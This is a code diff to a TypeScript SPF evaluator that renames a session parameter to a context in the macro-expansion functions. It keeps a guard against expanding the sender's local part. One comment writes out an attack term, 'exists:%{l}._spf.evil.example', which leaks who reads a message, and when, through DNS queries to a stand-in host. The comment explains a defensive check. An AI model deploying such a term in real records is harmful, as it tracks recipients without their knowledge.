@@ -1,7 +1,8 @@
 /** The name that a term is about: its domain-spec, expanded, or the domain in hand (RFC 7208 §4.8). */
+
+import type { SpfContext, SpfError } from './context.ts';
 import type { MacroString } from './domain-spec.ts';
 import { expandDomain, type MacroValues, usesLetter } from './macro.ts';
-import type { SpfError, SpfSession } from './session.ts';
 import { validatedNameFor } from './validated-names.ts';
 
 /** Letters that hold the sender's local part. */
@@ -16,26 +17,26 @@ export type Target = { name: string | null } | { error: SpfError };
  * @param domain the domain whose record holds the term
  */
 export async function targetName(
-  session: SpfSession,
+  context: SpfContext,
   spec: MacroString | null,
   term: string,
   domain: string,
 ): Promise<Target> {
   if (!spec) return { name: domain };
   if (usesLetter(spec, LOCAL_PART_LETTERS)) {
-    if (!isAscii(session.subject.localPart)) return { name: null };
+    if (!isAscii(context.subject.localPart)) return { name: null };
     // Attack: "exists:%{l}._spf.evil.example" makes the very question tell the sender's DNS who reads the message, and when.
-    if (!session.subject.askLocalPart) {
+    if (!context.subject.askLocalPart) {
       return { error: { code: 'spf_temperror_local_part', term, domain, values: {}, warnings: [] } };
     }
   }
-  return { name: expandDomain(spec, await macroValues(session, spec, domain)) };
+  return { name: expandDomain(spec, await macroValues(context, spec, domain)) };
 }
 
 /** What the macros of a text stand for; the client's name is looked up only when one of them wants it. */
-export async function macroValues(session: SpfSession, parts: MacroString, domain: string): Promise<MacroValues> {
-  const validatedName = usesLetter(parts, 'p') ? await validatedNameFor(session, domain) : 'unknown';
-  return { ...session.subject, domain, validatedName };
+export async function macroValues(context: SpfContext, parts: MacroString, domain: string): Promise<MacroValues> {
+  const validatedName = usesLetter(parts, 'p') ? await validatedNameFor(context, domain) : 'unknown';
+  return { ...context.subject, domain, validatedName };
 }
 
 function isAscii(text: string): boolean {
